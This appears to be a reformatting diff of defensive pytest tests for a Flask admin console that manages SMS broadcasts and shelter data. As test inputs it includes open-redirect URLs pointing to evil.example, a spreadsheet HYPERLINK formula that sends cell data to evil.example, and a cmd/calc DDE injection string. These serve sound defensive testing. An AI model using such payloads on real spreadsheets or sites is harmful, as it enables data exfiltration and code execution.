@@ -62,8 +62,9 @@ class Browser:
     def login(self, name, password) -> int:
         body = urllib.parse.urlencode({"username": name, "password": password, "csrf_token": self.csrf})
         conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
-        conn.request("POST", "/admin/login", body, {"Cookie": self.cookie,
-                                                     "Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
+        conn.request(
+            "POST", "/admin/login", body, {"Cookie": self.cookie, "Content-Type": "application/x-www-form-urlencoded"}
+        )
         status = conn.getresponse().status
         conn.close()
         return status
@@ -211,27 +212,52 @@ def test_a_session_ends_12_hours_after_login_however_busy(members, client, app):
 
 def test_queue_actions_go_back_to_our_own_queue_page_whatever_the_referer(members, client):
     login(client, "op")
-    answer = client.post("/admin/queue/1/cancel?status=all&city=tijuana", base_url=PUBLIC_URL,
-                         headers={"Referer": "https://evil.example/admin/queue"},
-                         data={"csrf_token": token(client, "/admin/queue")})  # fmt: skip
+    answer = client.post(
+        "/admin/queue/1/cancel?status=all&city=tijuana",
+        base_url=PUBLIC_URL,
+        headers={"Referer": "https://evil.example/admin/queue"},
+        data={"csrf_token": token(client, "/admin/queue")},
+    )
     assert answer.status_code == 400  # Flask-WTF: a cross-site Referer on HTTPS is refused first
-    answer = post(client, "/admin/queue/1/cancel?status=all&city=tijuana&next=https://evil.example",
-                  data={"csrf_token": token(client, "/admin/queue")})  # fmt: skip
+    answer = post(
+        client,
+        "/admin/queue/1/cancel?status=all&city=tijuana&next=https://evil.example",
+        data={"csrf_token": token(client, "/admin/queue")},
+    )
     assert answer.headers["Location"] == "/admin/queue?status=all&city=tijuana"
 
 
-@pytest.mark.parametrize("target", ["https://evil.example/admin", "//evil.example", "/admin/../..//evil.example",
-                                    "/admin@evil.example", "/admin\\@evil.example", "/administrator"])  # fmt: skip
+@pytest.mark.parametrize(
+    "target",
+    [
+        "https://evil.example/admin",
+        "//evil.example",
+        "/admin/../..//evil.example",
+        "/admin@evil.example",
+        "/admin\\@evil.example",
+        "/administrator",
+    ],
+)
 def test_login_next_stays_on_our_console(members, client, target):
-    answer = post(client, f"/admin/login?next={urllib.parse.quote(target)}",
-                  data={"username": "vol", "password": PASSWORD, "csrf_token": token(client)})  # fmt: skip
+    answer = post(
+        client,
+        f"/admin/login?next={urllib.parse.quote(target)}",
+        data={"username": "vol", "password": PASSWORD, "csrf_token": token(client)},
+    )
     assert answer.headers["Location"] == "/admin"
 
 
 def test_no_redirect_is_built_from_a_forged_host(tmp_path):
     """TRUSTED_HOSTS comes from HEARINGBOT_PUBLIC_URL (bot/config.py); '//' is not merged into a redirect."""
-    app = create_app({"INSTANCE_DIR": str(tmp_path), "DATABASE": str(tmp_path / "t.db"), "SECRET_KEY": "k" * 40,
-                      "TWILIO_AUTH_TOKEN": "t", "PUBLIC_URL": PUBLIC_URL})  # fmt: skip
+    app = create_app(
+        {
+            "INSTANCE_DIR": str(tmp_path),
+            "DATABASE": str(tmp_path / "t.db"),
+            "SECRET_KEY": "k" * 40,
+            "TWILIO_AUTH_TOKEN": "t",
+            "PUBLIC_URL": PUBLIC_URL,
+        }
+    )
     client = app.test_client()
     assert client.get("/admin/login", headers={"Host": "evil.example"}).status_code == 400
     assert client.get("/admin/login", base_url=PUBLIC_URL).status_code == 200
@@ -242,12 +268,37 @@ def test_no_redirect_is_built_from_a_forged_host(tmp_path):
 # --- L10: staff names ----------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("name", ["evil/admin", "cli", "system", "scheduler", "unknown", "anonymous", "(unknown)",
-                                  "x", "a" * 33, "..", ".hidden", "ana maria", "ana%2fadmin"])  # fmt: skip
+@pytest.mark.parametrize(
+    "name",
+    [
+        "evil/admin",
+        "cli",
+        "system",
+        "scheduler",
+        "unknown",
+        "anonymous",
+        "(unknown)",
+        "x",
+        "a" * 33,
+        "..",
+        ".hidden",
+        "ana maria",
+        "ana%2fadmin",
+    ],
+)
 def test_console_refuses_names_that_break_urls_or_forge_audit_actors(members, client, db, name):
     login(client, "adm")
-    answer = post(client, "/admin/staff", data={"csrf_token": token(client, "/admin/staff"), "name": name,
-                                                 "role": "admin", "lang": "en", "password": PASSWORD})  # fmt: skip
+    answer = post(
+        client,
+        "/admin/staff",
+        data={
+            "csrf_token": token(client, "/admin/staff"),
+            "name": name,
+            "role": "admin",
+            "lang": "en",
+            "password": PASSWORD,
+        },
+    )
     assert answer.status_code == 422
     assert "2 to 32 characters" in answer.get_data(as_text=True) or "reserved" in answer.get_data(as_text=True)
     assert db["staff"].count == 3
@@ -262,8 +313,11 @@ def test_cli_refuses_reserved_names(runner):
 def test_every_valid_name_can_be_disabled_from_the_console(members, client, db, name):
     login(client, "adm")
     csrf = token(client, "/admin/staff")
-    post(client, "/admin/staff", data={"csrf_token": csrf, "name": name, "role": "admin", "lang": "en",
-                                       "password": PASSWORD})  # fmt: skip
+    post(
+        client,
+        "/admin/staff",
+        data={"csrf_token": csrf, "name": name, "role": "admin", "lang": "en", "password": PASSWORD},
+    )
     page = client.get("/admin/staff", base_url=PUBLIC_URL).get_data(as_text=True)
     action = re.search(rf'action="([^"]*/staff/{re.escape(name)}/disable)"', page)[1]
     assert post(client, action, data={"csrf_token": csrf}).status_code == 302
@@ -280,9 +334,11 @@ def add_people(app, n, first=0):
         with db.atomic():
             for i in range(first, first + n):
                 phone = f"+52166400{i:05d}"
-                db.execute("INSERT INTO contacts (channel, phone_hash, phone_enc, lang, city, state, consent_at, "
-                           "created_at) VALUES ('sms', ?, ?, 'es', 'tijuana', 'registered', ?, ?)",
-                           [vault.lookup_hash(phone), vault.encrypt(phone), now, now])  # fmt: skip
+                db.execute(
+                    "INSERT INTO contacts (channel, phone_hash, phone_enc, lang, city, state, consent_at, "
+                    "created_at) VALUES ('sms', ?, ?, 'es', 'tijuana', 'registered', ?, ?)",
+                    [vault.lookup_hash(phone), vault.encrypt(phone), now, now],
+                )
 
 
 def send_broadcast(client, **fields):
@@ -301,11 +357,19 @@ def test_a_volunteers_broadcast_to_over_500_people_waits_for_an_operator(members
     csrf = token(volunteer, "/admin/broadcasts")
     assert post(volunteer, "/admin/broadcasts/1/approve", data={"csrf_token": csrf}).status_code == 403
     assert "Approve and send" in operator.get("/admin/broadcasts", base_url=PUBLIC_URL).get_data(as_text=True)
-    assert post(operator, "/admin/broadcasts/1/approve", data={"csrf_token": token(operator, "/admin/broadcasts")}
-                ).status_code == 302  # fmt: skip
+    assert (
+        post(
+            operator, "/admin/broadcasts/1/approve", data={"csrf_token": token(operator, "/admin/broadcasts")}
+        ).status_code
+        == 302
+    )
     b = broadcasts.get(db, 1)
-    assert (b["status"], b["approved_by"], b["approved_at"], queued(db)) == ("sending", "op", "2026-02-02T15:00:00Z",
-                                                                              501)  # fmt: skip
+    assert (b["status"], b["approved_by"], b["approved_at"], queued(db)) == (
+        "sending",
+        "op",
+        "2026-02-02T15:00:00Z",
+        501,
+    )
     assert [e["action"] for e in audit.entries(db)[:2]] == ["broadcast approved", "broadcast awaiting approval"]
     assert audit.entries(db)[0]["changes"] == {"status": ["awaiting_approval", "sending"]}
 
@@ -354,8 +418,10 @@ def test_shelter_edits_are_audited_field_by_field_old_to_new(members, app, clien
     assert post(client, path, data={"csrf_token": token(client, path), **form}).status_code == 302
     entry = audit.entries(db)[0]
     assert (entry["action"], entry["actor"]) == ("shelter saved", "vol")
-    assert entry["changes"] == {"phone": [before["phone"] or "", "+52 656 000 6666"],
-                                "verified_at": [before["verified_at"], "2026-01-30"]}  # fmt: skip
+    assert entry["changes"] == {
+        "phone": [before["phone"] or "", "+52 656 000 6666"],
+        "verified_at": [before["verified_at"], "2026-01-30"],
+    }
     login(client, "adm")
     page = client.get("/admin/audit", base_url=PUBLIC_URL).get_data(as_text=True)
     assert "phone: " in page and "→ +52 656 000 6666" in page
@@ -389,9 +455,14 @@ def test_failed_logins_cannot_push_staff_actions_off_the_audit_page_and_every_pa
 # --- informational: ids too big, unknown places, headers ------------------------------------------------
 
 
-@pytest.mark.parametrize("path", ["/admin/queue/99999999999999999999999/cancel",
-                                  "/admin/broadcasts/99999999999999999999999/cancel",
-                                  "/admin/broadcasts/99999999999999999999999/approve"])  # fmt: skip
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/admin/queue/99999999999999999999999/cancel",
+        "/admin/broadcasts/99999999999999999999999/cancel",
+        "/admin/broadcasts/99999999999999999999999/approve",
+    ],
+)
 def test_huge_ids_are_a_404_not_a_500(members, client, path):
     login(client, "adm")
     assert post(client, path, data={"csrf_token": token(client, "/admin")}).status_code == 404
@@ -407,8 +478,11 @@ def test_a_broadcast_to_an_unknown_place_is_a_form_error_and_leaves_no_draft(mem
     page = client.get("/admin/broadcasts", base_url=PUBLIC_URL).get_data(as_text=True)
     assert "Unknown city, court or language" in page
     assert db["broadcasts"].count == 0
-    preview = post(client, "/admin/broadcasts/preview", data={"csrf_token": token(client, "/admin/broadcasts"),
-                                                              "text_es": "x", **field})  # fmt: skip
+    preview = post(
+        client,
+        "/admin/broadcasts/preview",
+        data={"csrf_token": token(client, "/admin/broadcasts"), "text_es": "x", **field},
+    )
     assert preview.status_code == 400 and "Unknown city" in preview.json["error"]
 
 
@@ -427,9 +501,13 @@ def test_hsts_everywhere_and_console_pages_never_cached(members, client):
 def test_shelter_export_defuses_formulas_and_round_trips_through_import(members, app, client, db):
     with app.app_context():
         first = shelters.all_shelters(context.get_db())[0]
-        evil = shelters.as_row(first) | {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-                                          "address": "@SUM(1+1)*cmd|' /C calc'!A0", "phone": "+52 656 123 4567",
-                                          "notes_en": "-2+3", "source": "+cmd"}  # fmt: skip
+        evil = shelters.as_row(first) | {
+            "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "phone": "+52 656 123 4567",
+            "notes_en": "-2+3",
+            "source": "+cmd",
+        }
         checked, errors = shelters.check_row(evil, 1, context.places())
         assert not errors
         shelters.save_one(context.get_db(), first.id, checked)
